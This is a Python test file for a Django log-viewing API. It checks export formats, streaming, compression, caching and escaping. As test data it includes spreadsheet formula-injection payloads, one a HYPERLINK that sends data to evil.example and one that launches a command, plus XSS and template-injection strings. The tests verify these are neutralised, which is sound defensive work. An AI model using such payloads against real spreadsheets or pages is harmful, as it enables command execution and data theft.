"""What form an answer takes: JSON, CSV, JSON lines, or a page for people; how it may be kept; what errors look like."""

import csv
import gzip
import io
import json
import re
from datetime import UTC, datetime, timedelta
from string import whitespace

import pytest
import time_machine
from django.db import OperationalError, connection
from hypothesis import given
from hypothesis import strategies as st

from logs.api.renderers import CSVRenderer, JSONLinesRenderer
from logs.api.serializers.log import DeliverySerializer, WorkflowEventSerializer
from logs.api.views.events import EventListView
from logs.models import Delivery, Standing, StateChange, WorkflowEvent

pytestmark = pytest.mark.django_db

EVENTS = "/fetch-webhooks-logs"
DELIVERIES = "/deliveries"
OTHERS = ["/api/changes", "/api/standings"]
LISTS = [EVENTS, DELIVERIES, *OTHERS]
NEWEST = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)
NAMES = list(WorkflowEventSerializer.Meta.fields)
BROWSER = {"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
HOSTILE = "<script>alert(1)</script>{{ 7*7 }}\u202e'\""
ERROR_NAMES = ["detail", "code"]


@pytest.fixture
def reader(user_with, client_of):
    """A client whose user may read everything."""
    return client_of(user_with("view_workflowevent", "view_delivery", "view_delivery_body"))


@pytest.fixture
def small_pages(monkeypatch):
    """Let a stream read three rows at a time."""
    monkeypatch.setattr("logs.reading.cursors.STREAM_PAGE_SIZE", 3)


def log_events(count, **columns):
    """Log events whose ids count from the newest, 0; the moments are shared by two each."""
    WorkflowEvent.objects.bulk_create(
        WorkflowEvent(
            event_id=f"event-{number}",
            received_at=NEWEST - timedelta(seconds=number // 2),
            **{"verified": True} | columns,
        )
        for number in reversed(range(count))
    )


def whole(answer):
    """Return the body of an answer, streamed or not."""
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def ids_in(body, form):
    """Return the ids in the order of a body in JSON, CSV or JSON lines."""
    text = body.decode()
    if form == "csv":
        return [row["id"] for row in rows_of(text)]
    return [each["id"] for each in (map(json.loads, text.splitlines()) if form == "ndjson" else json.loads(text))]


def links_of(answer):
    return {relation: url for url, relation in re.findall(r'<([^>]*)>; rel="(\w+)"', answer.headers["Link"])}


# Choosing a form.


@pytest.mark.parametrize(
    ("query", "headers", "content_type"),
    [
        ("", {}, "application/json"),
        ("", {"accept": "*/*"}, "application/json"),
        ("", {"accept": "application/*"}, "application/json"),
        ("", {"accept": "application/json; indent=2"}, "application/json"),
        ("", {"accept": "text/csv"}, "text/csv; charset=utf-8"),
        ("", {"accept": "TEXT/CSV"}, "text/csv; charset=utf-8"),
        ("", {"accept": "image/png, text/csv"}, "text/csv; charset=utf-8"),
        ("", {"accept": "application/x-ndjson"}, "application/x-ndjson; charset=utf-8"),
        ("", BROWSER, "text/html; charset=utf-8"),
        ("?format=json", BROWSER, "application/json"),
        ("?format=csv", {}, "text/csv; charset=utf-8"),
        ("?format=csv", {"accept": "application/json"}, "text/csv; charset=utf-8"),
        ("?format=csv", {"accept": "text/plain; charset*=x"}, "text/csv; charset=utf-8"),
        ("?format=ndjson", {}, "application/x-ndjson; charset=utf-8"),
        ("?format=ndjson&limit=1", BROWSER, "application/x-ndjson; charset=utf-8"),
        ("?format=csv&limit=1", {}, "text/csv; charset=utf-8"),
        ("?format=api", {}, "text/html; charset=utf-8"),
    ],
)
@pytest.mark.parametrize("path", LISTS)
def test_the_form_is_the_one_named_or_else_one_accepted(
    reader, deliver, workflow_document, path, query, headers, content_type
):
    deliver(workflow_document())
    StateChange.objects.create(kind="broke", happened_at=NEWEST, noted_at=NEWEST, failures=1)
    Standing.objects.create(tone="good", last_run_at=NEWEST)
    answer = reader.get(f"{path}{query}", headers=headers)
    assert answer.headers["Content-Type"] == content_type
    assert whole(answer)


@pytest.mark.parametrize("name", ["xml", "CSV", "html", "json ", "%00", "é"])
@pytest.mark.parametrize("headers", [{}, BROWSER, {"accept": "text/csv"}])
@pytest.mark.parametrize(
    ("path", "names"),
    [*((path, "json, csv, ndjson, api") for path in LISTS), (f"{EVENTS}/event-0", "json, api")],
)
def test_an_unknown_form_is_a_400_that_names_those_there_are(reader, path, name, headers, names):
    answer = reader.get(f"{path}?format={name}", headers=headers)
    assert answer.status_code == 400
    assert answer.json() == {"detail": f"format must be one of: {names}.", "code": "invalid_format"}


@pytest.mark.parametrize(
    "accept",
    [
        "image/png",
        "text/plain;q=0.5",
        "json",
        "",
        "a" * 9_000,
        "application/json; x*=no-such-charset''%FF",
        "*/*; x*=undefined''x",
        "*/png",
        ";;=,;",
    ],
)
@pytest.mark.parametrize("path", [*LISTS, f"{EVENTS}/event-0"])
def test_an_accept_header_that_names_no_form_there_is_is_a_406(reader, path, accept):
    answer = reader.get(path, headers={"accept": accept})
    assert answer.status_code == 406
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.json()["code"] == "not_acceptable"


# Streams and pages.


@pytest.mark.parametrize("form", ["csv", "ndjson"])
@pytest.mark.parametrize("count", [0, 1, 3, 4, 10])
@pytest.mark.parametrize("query", ["", "&ordering=received_at", "&ordering=-duration", "&trigger=api&status=failed"])
def test_without_a_limit_it_holds_every_row_once(reader, small_pages, form, count, query):
    log_events(count, trigger="api", status="failed")
    WorkflowEvent.objects.create(event_id="other", received_at=NEWEST, verified=True)
    expected = [f"event-{number}" for number in range(count)]
    found = ids_in(whole(reader.get(f"{EVENTS}?format={form}{query}")), form)
    if "status" not in query:
        expected.append("other")
    assert sorted(found) == sorted(expected)
    if not query:
        assert found == list(WorkflowEvent.objects.newest_first().values_list("event_id", flat=True))


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_rows_that_come_and_go_meanwhile_double_and_hide_none(reader, small_pages, form):
    log_events(8)
    chunks = reader.get(f"{EVENTS}?format={form}").streaming_content
    # The first page is read by now.
    WorkflowEvent.objects.create(event_id="arrived-since", received_at=NEWEST + timedelta(seconds=1), verified=True)
    WorkflowEvent.objects.filter(event_id__in=["event-2", "event-5"]).delete()
    assert ids_in(b"".join(chunks), form) == [f"event-{number}" for number in (0, 1, 2, 3, 4, 6, 7)]


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_with_a_limit_it_is_a_page_with_links(reader, form):
    log_events(7)
    url, seen = f"{EVENTS}?format={form}&limit=3", []
    while url:
        answer = reader.get(url)
        assert not answer.streaming
        page = ids_in(whole(answer), form)
        assert len(page) <= 3
        seen += page
        url = links_of(answer).get("next")
    assert seen == list(WorkflowEvent.objects.newest_first().values_list("event_id", flat=True))


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_a_stream_begins_behind_a_cursor(reader, small_pages, form):
    log_events(9)
    url = links_of(reader.get(f"{EVENTS}?limit=2"))["next"].replace("limit=2", f"format={form}")
    expected = list(WorkflowEvent.objects.newest_first().values_list("event_id", flat=True))
    assert ids_in(whole(reader.get(url)), form) == expected[2:]


def test_a_page_without_a_row_tells_its_content_type_too(reader):
    answer = reader.get(f"{EVENTS}?format=ndjson&limit=2")
    assert whole(answer) == b""
    assert answer.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"


def test_a_cursor_that_leads_back_needs_a_limit(reader):
    log_events(9)
    second = reader.get(links_of(reader.get(f"{EVENTS}?limit=2"))["next"])
    answer = reader.get(links_of(second)["prev"].replace("limit=2", "format=csv"))
    assert answer.status_code == 400
    assert answer.json() == {"detail": "A prev cursor leads to a single page: add a limit.", "code": "invalid_cursor"}


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_a_stream_reads_rows_as_they_are_sent(reader, monkeypatch, django_assert_num_queries, form):
    monkeypatch.setattr("logs.reading.cursors.STREAM_PAGE_SIZE", 100)
    log_events(1_200)
    with django_assert_num_queries(5):  # session, user, two for permissions, the first page
        answer = reader.get(f"{EVENTS}?format={form}")
    with django_assert_num_queries(4):
        first = next(answer.streaming_content)
    assert first.count(b"\n") == 500
    with django_assert_num_queries(7):
        rest = b"".join(answer.streaming_content)
    assert len(ids_in(first + rest, form)) == 1_200


@pytest.mark.parametrize(("path", "name"), [(EVENTS, "events"), (DELIVERIES, "deliveries")])
@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_a_stream_is_a_file_named_with_the_date(reader, path, name, form):
    with time_machine.travel("2026-05-04T23:59Z", tick=False):
        answer = reader.get(f"{path}?format={form}")
    expected = f'attachment; filename="{name}-2026-05-04.{form}"'
    assert answer.headers["Content-Disposition"] == expected


def test_every_form_tells_the_same(reader, deliver, workflow_document):
    deliver(workflow_document(author="Zoë Größe", project='сад, "x"\r\n'))
    deliver(b'{"id": "bare", "type": "job-completed"}')
    listed = reader.get(EVENTS).json()
    assert [json.loads(line) for line in whole(reader.get(f"{EVENTS}?format=ndjson")).splitlines()] == listed
    text = whole(reader.get(f"{EVENTS}?format=csv")).decode()
    rows = rows_of(text)
    assert list(rows[0]) == NAMES
    assert rows == [{name: in_cell(value) for name, value in each.items()} for each in listed]
    assert text.startswith(",".join(NAMES) + "\r\n")


def in_cell(value):
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_deliveries_take_every_form_too(reader, deliver, workflow_document):
    deliver(workflow_document())
    deliver(b"[]", secret="wrong")
    listed = reader.get(DELIVERIES).json()
    rows = rows_of(whole(reader.get(f"{DELIVERIES}?format=csv")).decode())
    assert rows == [{name: in_cell(value) for name, value in each.items()} for each in listed]
    assert list(rows[0]) == list(DeliverySerializer.Meta.fields)
    assert [json.loads(line) for line in whole(reader.get(f"{DELIVERIES}?format=ndjson")).splitlines()] == listed


def test_an_empty_log_is_a_line_of_names_or_nothing(reader):
    assert whole(reader.get(f"{EVENTS}?format=csv")).decode() == ",".join(NAMES) + "\r\n"
    assert whole(reader.get(f"{EVENTS}?format=ndjson")) == b""


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("count", [0, 7])
@pytest.mark.parametrize("query", ["", "&limit=2"])
def test_begins_csv_once_with_a_byte_order_mark_for_those_who_ask(reader, deliver, small_pages, path, count, query):
    for number in range(count):
        deliver({"id": f"ü-{number}", "type": "workflow-completed"})
    plain = whole(reader.get(f"{path}?format=csv&bom=false{query}"))
    assert plain == whole(reader.get(f"{path}?format=csv{query}"))
    marked = whole(reader.get(f"{path}?format=csv&bom=True{query}"))
    assert marked == b"\xef\xbb\xbf" + plain
    assert b"\xef\xbb\xbf" not in plain


def test_the_next_page_of_csv_begins_with_a_byte_order_mark_too(reader):
    log_events(3)
    answer = reader.get(f"{EVENTS}?bom=true&limit=2", headers={"accept": "text/csv"})
    following = reader.get(links_of(answer)["next"], headers={"accept": "text/csv"})
    assert [whole(each)[:7] for each in (answer, following)] == [b"\xef\xbb\xbfname"] * 2


@pytest.mark.parametrize("form", ["json", "ndjson", "api"])
def test_no_other_format_has_a_byte_order_mark(reader, form):
    log_events(1)
    assert "\ufeff" not in whole(reader.get(f"{EVENTS}?format={form}&bom=true")).decode()


def test_a_byte_order_mark_is_asked_for_by_true_or_false(reader):
    answer = reader.get(f"{EVENTS}?format=csv&bom=utf-8")
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid_parameter")
    assert answer.json()["detail"].startswith("bom: It must be true or false")


# What is in a cell.


def written(value):
    """Return a text as it stands in a CSV after it was read back."""
    lines = CSVRenderer().lines([{"a": "before", "b": value, "c": "after"}], ["a", "b", "c"])
    ((first, cell, last),) = list(csv.reader(io.StringIO("".join(lines), newline="")))[1:]
    assert (first, last) == ("before", "after")
    return cell


SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫\u2212"
SEPARATORS = [";", "|", "\t", "\r", "\n", "\r\n", "\v", "\0", "\x85", "\u2028", "،", "؛", "；"]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\ufeff", "\u00a0", "\u3000", '"', ' "" '])
def test_a_formula_becomes_a_text(sign, before):
    for rest in ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', ""):
        assert written(before + sign + rest) == f"'{before}{sign}{rest}"


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("between", ["", " ", '"', "\n", ' "\t'])
def test_a_formula_after_the_separator_of_another_locale_becomes_a_text(separator, between):
    for sign in SIGNS:
        assert written(f"x{separator}{between}{sign}1+1") == f"x{separator}{between}'{sign}1+1"
        assert written(f"{separator}{between}{sign}1+1").lstrip("'") == f"{separator}{between}'{sign}1+1"


@given(
    texts=st.lists(st.text(st.sampled_from(f"a,' {SIGNS}" + '"' + "".join(SEPARATORS))), min_size=3, max_size=3),
    delimiter=st.sampled_from(",;\t|"),
)
def test_no_cell_is_a_formula_whatever_separates_cells(texts, delimiter):
    lines = "".join(CSVRenderer().lines([dict(zip("abc", texts, strict=True))] * 2, ["a", "b", "c"]))
    for row in csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell.lstrip(f'{whitespace}\0\x85\u2028"').startswith(tuple(SIGNS)), cell


@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\r\n"])
def test_a_text_that_begins_with_what_separates_cells_gets_an_apostrophe(start):
    assert written(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "text",
    [
        "main",
        "feature/x=1",
        "a - b",
        "1+1",
        "a;b | c; 1-2",
        "write to rosa@orchard.example; or not",
        "a;'=b",
        "'quoted'",
        '"quoted"',
        "comma, semicolon; pipe|",
        "two\nlines",
        "two\r\nlines",
        "NUL \0 inside",
        "\u202ertl\u202c",
        "\u200f\u05d0",
        "\u2028 \u2029 \x85 \x0b \x0c",
        "\N{GRINNING FACE} сад",
        "",
        " leading and trailing ",
        "_=",
    ],
)
def test_any_other_text_stays_as_it_is(text):
    assert written(text) == text


@pytest.mark.parametrize(("value", "cell"), [(-1, "-1"), (-0.5, "-0.5"), (None, ""), (True, "true"), (False, "false")])
def test_numbers_and_truths_are_no_formulas(value, cell):
    assert written(value) == cell


def test_a_hostile_payload_reaches_no_spreadsheet_as_a_formula(reader, deliver, workflow_document):
    document = workflow_document(author="=1+1", workflow="\t=1+1")
    document["pipeline"]["vcs"]["branch"] = "＝1+1"
    document["pipeline"]["vcs"]["commit"]["subject"] = '@SUM(1),"x'
    deliver(document)
    for query in ("", "&limit=1"):
        (row,) = rows_of(whole(reader.get(f"{EVENTS}?format=csv{query}")).decode())
        assert [row[name] for name in ("author", "branch", "commit_subject")] == ["'=1+1", "'＝1+1", "'@SUM(1),\"x"]
        assert row["workflow"] == "'\t'=1+1"


@pytest.mark.parametrize(
    "text", ["a\u2028b\u2029c\x85d", "a\nb\r\nc", "\x0b\x0c\x1c\x1d\x1e", "\0", "Zoë \N{GRINNING FACE}"]
)
def test_no_text_breaks_a_json_line(text):
    lines = "".join(JSONLinesRenderer().lines([{"a": text}, {"a": 2}], ["a"]))
    assert [json.loads(line) for line in lines.splitlines()] == [{"a": text}, {"a": 2}]


# Compression.


@pytest.mark.parametrize("query", ["", "?format=csv", "?format=csv&limit=50", "?format=ndjson", "?format=api"])
def test_is_compressed_where_that_is_asked_for_only(reader, small_pages, query):
    log_events(20)
    plain = whole(reader.get(EVENTS + query))
    for encoding in ("identity", "br", "", "*;q=0"):
        answer = reader.get(EVENTS + query, headers={"accept-encoding": encoding})
        assert "Content-Encoding" not in answer.headers
        assert "Accept-Encoding" in answer.headers["Vary"]
        assert whole(answer) == plain
    answer = reader.get(EVENTS + query, headers={"accept-encoding": "br, gzip"})
    assert answer.headers["Content-Encoding"] == "gzip"
    compressed = whole(answer)
    assert gzip.decompress(compressed) == plain
    assert len(compressed) < len(plain)


def test_a_compressed_stream_is_sent_as_it_is_read(reader, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr("logs.reading.cursors.STREAM_PAGE_SIZE", 100)
    log_events(3_000)
    answer = reader.get(f"{EVENTS}?format=csv", headers={"accept-encoding": "gzip"})
    with django_assert_num_queries(0):
        next(answer.streaming_content)
    with django_assert_num_queries(29):
        list(answer.streaming_content)


# Without a body.


@pytest.mark.parametrize("query", ["", "?format=csv", "?format=ndjson", "?format=csv&limit=5", "?format=api"])
def test_head_tells_what_get_would(reader, query):
    log_events(20)
    got = reader.get(EVENTS + query)
    answer = reader.head(EVENTS + query)
    assert answer.status_code == 200
    for name in ("Content-Type", "Cache-Control", "Vary", "Link", "Content-Disposition"):
        assert answer.headers.get(name) == got.headers.get(name)


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_head_reads_no_more_than_the_first_page(settings, rf, small_pages, django_assert_num_queries, form):
    settings.PUBLIC_READ = True
    log_events(20)
    # The view itself: Django's test client asks an answer to HEAD for no body, as servers do.
    answer = EventListView.as_view()(rf.head(f"{EVENTS}?format={form}"))
    with django_assert_num_queries(0):
        assert b"".join(answer.streaming_content) == b""


# Errors.


@pytest.mark.parametrize(
    ("form", "accept"),
    [
        ("json", "*/*"),
        ("csv", "*/*"),
        ("ndjson", "text/html"),
        (None, "application/json"),
        (None, "text/csv"),
        (None, "application/x-ndjson"),
    ],
)
@pytest.mark.parametrize("query", ["limit=0", "cursor=x", "ordering=id", "verified=x&status=x", "colour=red", "limit="])
def test_an_error_is_json_of_one_shape_whatever_form_was_asked_for(reader, form, accept, query):
    address = f"{EVENTS}?{query}" + (f"&format={form}" if form else "")
    answer = reader.get(address, headers={"accept": accept})
    assert answer.status_code == 400
    assert answer.headers["Content-Type"] == "application/json"
    assert list(answer.json()) == ERROR_NAMES
    assert "Content-Disposition" not in answer.headers


@pytest.mark.parametrize("accept", ["text/csv", "application/x-ndjson", "application/json"])
def test_refusals_are_json_too(client, reader, user_with, client_of, accept):
    headers = {"accept": accept}
    stranger = client_of(user_with(username="stranger"))
    answers = {
        401: client.get(EVENTS, headers=headers),
        403: stranger.get(EVENTS, headers=headers),
        405: reader.delete(EVENTS, headers=headers),
    }
    for status, answer in answers.items():
        assert answer.status_code == status
        assert answer.headers["Content-Type"] == "application/json"
        assert list(answer.json()) == ERROR_NAMES


def fail_from(query_number):
    """Return a wrapper for queries that lets the database fail from a query on, counted from 1."""
    counted = iter(range(1, 1_000))

    def execute_or_fail(execute, sql, params, many, context):
        if "logs_workflowevent" in sql and next(counted) >= query_number:
            raise OperationalError("the database went away")
        return execute(sql, params, many, context)

    return execute_or_fail


@pytest.mark.parametrize("query", ["", "?format=csv", "?format=ndjson", "?format=csv&limit=5"])
def test_a_database_that_fails_at_once_is_a_503_in_every_form(reader, query):
    log_events(10)
    with connection.execute_wrapper(fail_from(1)):
        answer = reader.get(EVENTS + query)
    assert answer.status_code == 503
    assert answer.json()["code"] == "database_unavailable"
    assert answer.headers["Retry-After"] == "10"


@pytest.mark.parametrize("encoding", ["identity", "gzip"])
def test_an_error_in_the_middle_breaks_a_stream_instead_of_ending_it_as_if_it_were_whole(reader, small_pages, encoding):
    log_events(10)
    with connection.execute_wrapper(fail_from(3)):
        answer = reader.get(f"{EVENTS}?format=csv", headers={"accept-encoding": encoding})
        assert answer.status_code == 200
        received = []
        with pytest.raises(OperationalError):
            received.extend(answer.streaming_content)
    if encoding == "gzip":
        with pytest.raises(EOFError):
            gzip.decompress(b"".join(received))


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_http_1_0_has_pages_but_no_streams(reader, path, form):
    refused = reader.get(f"{path}?format={form}", SERVER_PROTOCOL="HTTP/1.0")
    assert (refused.status_code, refused.json()["code"]) == (426, "http_version_too_old")
    page = reader.get(f"{path}?format={form}&limit=5", SERVER_PROTOCOL="HTTP/1.0")
    assert page.status_code == 200
    assert page.headers["Content-Length"] == str(len(page.content))


# Asking again.


@pytest.mark.parametrize(
    "path", [EVENTS, f"{EVENTS}?limit=2", f"{EVENTS}/event-0", DELIVERIES, f"{EVENTS}?format=csv&limit=2"]
)
@pytest.mark.parametrize("encoding", ["identity", "gzip"])
def test_what_has_not_changed_is_a_304_without_a_body(reader, deliver, workflow_document, path, encoding):
    log_events(5)
    for _ in range(5):
        deliver(workflow_document())
    headers = {"accept-encoding": encoding}
    first = reader.get(path, headers=headers)
    assert (first.status_code, first.headers.get("Content-Encoding", "identity")) == (200, encoding)
    asked = headers | {"if-none-match": first.headers["ETag"]}
    again = reader.get(path, headers=asked)
    assert (again.status_code, again.content) == (304, b"")
    assert again.headers["Cache-Control"] == "private, no-cache"
    assert {"Accept", "Authorization", "Cookie"} <= set(again.headers["Vary"].split(", "))
    other = reader.get(path, headers=asked | {"if-none-match": '"another"'})
    assert other.status_code == 200
    deliver(workflow_document(2))
    WorkflowEvent.objects.filter(event_id="event-0").update(status="failed")
    changed = reader.get(path, headers=asked)
    assert changed.status_code == 200
    assert changed.headers["ETag"] != first.headers["ETag"]


def test_a_page_that_stays_the_same_is_another_answer_once_a_page_follows_it(reader):
    log_events(2)
    first = reader.get(f"{EVENTS}?limit=2")
    WorkflowEvent.objects.create(event_id="replayed", received_at=datetime(2020, 1, 1, tzinfo=UTC), verified=True)
    again = reader.get(f"{EVENTS}?limit=2", headers={"if-none-match": first.headers["ETag"]})
    assert again.status_code == 200
    assert again.json() == first.json()
    assert again.headers["Link"] != first.headers["Link"]


def test_a_304_is_for_those_who_may_read_only(client, reader):
    log_events(1)
    etag = reader.get(EVENTS).headers["ETag"]
    assert client.get(EVENTS, headers={"if-none-match": etag}).status_code == 401


def test_the_same_address_has_another_etag_for_another_reader_and_in_another_form(
    reader, user_with, client_of, deliver, workflow_document
):
    document = workflow_document()
    deliver(document)
    path = f"{EVENTS}/{document['id']}"
    etag = reader.get(path).headers["ETag"]
    other = client_of(user_with("view_workflowevent", username="other"))
    assert other.get(path, headers={"if-none-match": etag}).status_code == 200
    assert reader.get(path, headers={"if-none-match": etag} | BROWSER).status_code == 200


@pytest.mark.parametrize("etag", ["*", 'W/"x", "y"', "nonsense", '"', "\x00", "é"])
def test_odd_conditions_break_nothing(reader, etag):
    log_events(1)
    for name in ("if-none-match", "if-modified-since", "if-match", "if-unmodified-since", "range", "if-range"):
        assert reader.get(EVENTS, headers={name: etag}).status_code in (200, 304, 412)


@pytest.mark.parametrize(
    "path",
    [*LISTS, f"{EVENTS}?format=csv", f"{EVENTS}?format=api", f"{EVENTS}/event-0", f"{EVENTS}/unknown"],
)
def test_no_shared_cache_may_keep_an_answer(client, reader, path):
    log_events(1)
    for answer in (reader.get(path), client.get(path)):
        assert answer.headers["Cache-Control"] == "private, no-cache"
        assert {"Accept", "Authorization", "Cookie"} <= set(answer.headers["Vary"].split(", "))


# The page for people.


def page(client, url):
    answer = client.get(url, headers=BROWSER, follow=True)
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8", answer.content
    return answer.content.decode()


@pytest.mark.parametrize("path", [EVENTS, DELIVERIES])
def test_a_browser_gets_a_page_with_the_rows_and_a_form_to_filter_them(reader, deliver, workflow_document, path):
    document = workflow_document()
    deliver(document)
    html = page(reader, path)
    assert document["id"] in html
    names = re.findall(r'<(?:input|select)[^>]* name="(\w+)"', html)
    assert set(names) == set(
        reader.get(path + "?colour=red").json()["detail"].split(": ")[1].strip(".").split(", ")
    ) - {"bom", "cursor", "format", "limit", "ordering"}
    for form in ("json", "csv", "ndjson"):
        assert f'href="{path}?format={form}"' in html


def test_a_browser_gets_a_page_of_one_event(reader, deliver, workflow_document):
    document = workflow_document()
    deliver(document)
    html = page(reader, f"{EVENTS}/{document['id']}")
    assert "&quot;payload&quot;: {" in html
    assert '<form class="form"' not in html


def test_the_form_keeps_what_was_chosen_and_drops_its_empty_fields(reader):
    log_events(2, status="failed", trigger="api")
    sent = "project=&status=failed&q=&trigger=api&verified=&min_duration="
    answer = reader.get(f"{EVENTS}?{sent}", headers=BROWSER)
    assert (answer.status_code, answer.headers["Location"]) == (302, "?status=failed&trigger=api")
    assert answer.headers["Cache-Control"] == "private, no-cache"
    html = page(reader, f"{EVENTS}?{sent}&limit=1")
    assert re.search(r'<input type="text" name="status" value="failed"', html)
    exported = re.search(r'href="([^"]*format=csv[^"]*)"', html)[1].replace("&amp;", "&")
    assert len(rows_of(whole(reader.get(exported)).decode())) == 1
    following = re.search(r'href="([^"]*cursor=[^"]*)"', html)[1].replace("&amp;", "&")
    assert "event-0" in page(reader, following) or "event-1" in page(reader, following)


@pytest.mark.parametrize("path", LISTS)
def test_a_form_sent_as_it_stands_chooses_nothing(reader, path):
    html = page(reader, path)
    assert not re.findall(r'<input[^>]* value="', html)
    first_options = re.findall(r"<select[^>]*>\s*<option value=\"(\w*)\"", html)
    assert first_options
    assert set(first_options) == {""}
    names = re.findall(r'<(?:input|select)[^>]* name="(\w+)"', html)
    answer = reader.get(path, dict.fromkeys(names, ""), headers=BROWSER)
    assert (answer.status_code, answer.headers["Location"]) == (302, "?")
    assert reader.get(f"{path}?", headers=BROWSER).status_code == 200


def test_a_form_keeps_a_truth_however_it_was_spelled(reader):
    assert '<option value="true" selected>' in page(reader, f"{EVENTS}?verified=True")


def test_a_form_with_several_outcomes_keeps_them(reader, deliver):
    deliver(b"[]")
    html = page(reader, f"{DELIVERIES}?outcome=malformed,logged")
    assert "not a JSON object" in html
    assert "malformed,logged" in html


@pytest.mark.parametrize(
    "path", [*LISTS, f"{EVENTS}/event-0", f"{EVENTS}?limit=0", f"{EVENTS}/unknown", f"{DELIVERIES}/1"]
)
def test_the_page_needs_nothing_that_the_security_policy_forbids(client, reader, path):
    log_events(1)
    Delivery.objects.all().delete()
    for visitor in (reader, client):
        answer = visitor.get(path, headers=BROWSER)
        assert "default-src 'self'" in answer.headers["Content-Security-Policy"]
        html = answer.content.decode()
        assert "<style" not in html
        assert not re.search(r"<[^>]*\s(style|on\w+)=", html)
        scripts = re.findall(r"<script[^>]*>", html)
        assert scripts
        assert all(' src="/static/' in script for script in scripts)
        assert not re.findall(r'<(?:script|link|img)[^>]* (?:src|href)="(?!/static/)', html)


def test_hostile_texts_are_escaped_on_the_page(reader, deliver, workflow_document):
    document = workflow_document(author=HOSTILE, project=HOSTILE, workflow=HOSTILE)
    document |= {"id": f"a/{HOSTILE}", HOSTILE: "a lone surrogate: \ud800"}
    document["pipeline"]["vcs"]["commit"]["subject"] = "https://evil.example/\"onmouseover='alert(1)' www.evil.example"
    deliver(document, headers={"user-agent": HOSTILE.encode().decode("latin-1")})
    delivery = Delivery.objects.get()
    for path in (EVENTS, f"{EVENTS}/{'a%2F' + HOSTILE.replace('%', '%25')}", DELIVERIES, f"{DELIVERIES}/{delivery.pk}"):
        answer = reader.get(path, headers=BROWSER)
        assert answer.status_code == 200, path
        html = answer.content.decode()
        assert "<script>alert(1)" not in html
        assert "{{ 7*7 }}" in html
        assert not re.search(r"<[^>]*\son\w+=", html)


@pytest.mark.parametrize(
    "name", ["status", "project", "q", "revision", "received_after", "min_duration", "cursor", "limit"]
)
def test_hostile_parameters_are_escaped_on_the_page(reader, name):
    answer = reader.get(EVENTS, {name: HOSTILE}, headers=BROWSER)
    assert answer.status_code in (200, 400)
    assert "<script>alert(1)" not in answer.content.decode()


@pytest.mark.parametrize(
    ("path", "status", "words"),
    [
        (f"{EVENTS}?verified=x", 400, "verified: It must be true or false"),
        (f"{EVENTS}?colour=red", 400, "Unknown parameter"),
        (f"{EVENTS}?limit=0", 400, "limit must be a whole number"),
        (f"{EVENTS}/unknown", 404, "Not found."),
        (f"{DELIVERIES}/5", 404, "Not found."),
    ],
)
def test_an_error_is_a_page_too_in_a_browser(reader, path, status, words):
    answer = reader.get(path, headers=BROWSER)
    assert answer.status_code == status
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert words in answer.content.decode()
